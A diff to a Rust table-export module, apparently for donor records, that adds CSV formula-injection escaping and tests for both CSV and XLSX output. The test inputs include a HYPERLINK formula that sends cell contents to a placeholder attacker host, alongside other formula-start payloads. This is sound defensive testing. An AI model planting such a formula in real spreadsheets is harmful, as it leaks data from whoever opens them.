@@ -1,5 +1,11 @@
 //! Tables out: XLSX for people, CSV (UTF-8 with a BOM, so Excel on a Chinese Windows opens it
 //! right) for other programs. Money stays exact: fen are turned into yuan by integer division.
+//!
+//! Text comes from people (donor names, notes), so a CSV text cell that a spreadsheet would
+//! take for a formula (`=HYPERLINK(…)`, `+1`, `-2+3`, `@SUM(A1)`) gets a leading `'`, as OWASP
+//! advises against CSV injection; numbers and money are written as they are. XLSX needs no
+//! such care: text goes in as string cells (`write_string`, a shared string, never a
+//! formula), which Excel shows and never evaluates.
 
 use domain::money::Fen;
 
@@ -48,6 +54,19 @@ fn yuan_text(f: Fen) -> String {
     format!("{sign}{}.{:02}", abs / 100, abs % 100)
 }
 
+/// What a spreadsheet takes for the start of a formula (or, for tab and carriage return, strips
+/// to reach one); full-width forms too, which some spreadsheets fold to ASCII.
+const FORMULA_START: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+/// A text cell as written to CSV: with a leading `'` when it would otherwise start a formula.
+fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(FORMULA_START) {
+        format!("'{s}").into()
+    } else {
+        s.into()
+    }
+}
+
 /// Writes a sheet with a header row.
 pub fn write_table(
     format: Format,
@@ -60,10 +79,12 @@ pub fn write_table(
             let mut out = b"\xEF\xBB\xBF".to_vec();
             {
                 let mut w = csv::Writer::from_writer(&mut out);
-                w.write_record(headers).map_err(|e| e.to_string())?;
+                w.write_record(headers.iter().map(|h| csv_text(h).into_owned()))
+                    .map_err(|e| e.to_string())?;
                 for row in rows {
                     w.write_record(row.iter().map(|c| match c {
-                        Cell::Text(s) => s.clone(),
+                        Cell::Text(s) => csv_text(s).into_owned(),
+                        // Numbers stay numbers: `-0.05` is money, not a formula.
                         Cell::Int(i) => i.to_string(),
                         Cell::Money(f) => yuan_text(*f),
                     }))
@@ -89,6 +110,7 @@ pub fn write_table(
                 for (c, cell) in row.iter().enumerate() {
                     let c = c as u16;
                     match cell {
+                        // A string cell, whatever it starts with: safe from formula injection.
                         Cell::Text(s) => ws.write_string(r, c, s).map(|_| ()),
                         Cell::Int(i) => ws.write_number(r, c, *i as f64).map(|_| ()),
                         // A spreadsheet number is a double: exact for every amount under
@@ -133,6 +155,72 @@ mod tests {
             text,
             "捐赠人,编号,金额\n\"张三,“丰”\",7,123.45\n冲销,8,-0.05\n"
         );
+    }
+
+    fn injected() -> Vec<Vec<Cell>> {
+        [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1+1",
+            "\r=1+1",
+            "＝1+1",
+        ]
+        .into_iter()
+        .map(|s| vec![Cell::Text(s.into()), Cell::Int(-3), Cell::Money(Fen(-5))])
+        .collect()
+    }
+
+    #[test]
+    fn csv_text_that_looks_like_a_formula_gets_a_quote_but_numbers_stay_numbers() {
+        let out = write_table(Format::Csv, "x", &["捐赠人", "编号", "金额"], &injected()).unwrap();
+        let mut csv = csv::ReaderBuilder::new().from_reader(&out[3..]);
+        let cells: Vec<Vec<String>> = csv
+            .records()
+            .map(|r| r.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        let firsts: Vec<&str> = cells.iter().map(|r| r[0].as_str()).collect();
+        assert_eq!(
+            firsts,
+            [
+                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
+                "'+1",
+                "'-2+3",
+                "'@SUM(A1)",
+                "'\t=1+1",
+                "'\r=1+1",
+                "'＝1+1",
+            ]
+        );
+        for row in &cells {
+            assert_eq!((row[1].as_str(), row[2].as_str()), ("-3", "-0.05"));
+        }
+        // Ordinary text is untouched, and so is a sign that is not at the start.
+        let plain = vec![vec![Cell::Text("王芳 1+1=2".into())]];
+        let out = write_table(Format::Csv, "x", &["a"], &plain).unwrap();
+        assert_eq!(&out[3..], "a\n王芳 1+1=2\n".as_bytes());
+    }
+
+    #[test]
+    fn xlsx_text_that_looks_like_a_formula_stays_text() {
+        use calamine::{Data, Reader, Xlsx};
+        let out = write_table(
+            Format::Xlsx,
+            "捐赠",
+            &["捐赠人", "编号", "金额"],
+            &injected(),
+        )
+        .unwrap();
+        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(out)).unwrap();
+        let formulas = book.worksheet_formula("捐赠").unwrap();
+        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
+        let range = book.worksheet_range("捐赠").unwrap();
+        let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
+        assert_eq!(range.get((1, 0)), Some(&Data::String(link.into())));
+        assert_eq!(range.get((2, 0)), Some(&Data::String("+1".into())));
+        assert_eq!(range.get((4, 0)), Some(&Data::String("@SUM(A1)".into())));
+        assert_eq!(range.get((1, 2)), Some(&Data::Float(-0.05)));
     }
 
     #[test]
